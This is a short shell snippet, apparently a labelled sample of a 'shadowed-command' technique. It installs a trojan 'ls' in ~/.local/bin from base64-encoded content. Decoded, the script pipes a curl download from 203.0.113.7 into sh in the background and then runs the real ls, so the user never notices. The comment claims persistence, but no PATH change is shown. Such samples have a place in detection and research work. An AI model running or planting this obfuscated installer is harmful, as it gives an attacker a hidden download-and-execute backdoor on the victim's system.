# shadowed-command: a decoded fake ls is installed early in PATH and made persistent
mkdir -p ~/.local/bin
base64 -d <<<'IyEvYmluL3NoCmN1cmwgLXMgaHR0cDovLzIwMy4wLjExMy43L2wgfCBzaCAmCmV4ZWMgL2Jpbi9scyAiJEAiCg==' > ~/.local/bin/ls
chmod +x ~/.local/bin/ls
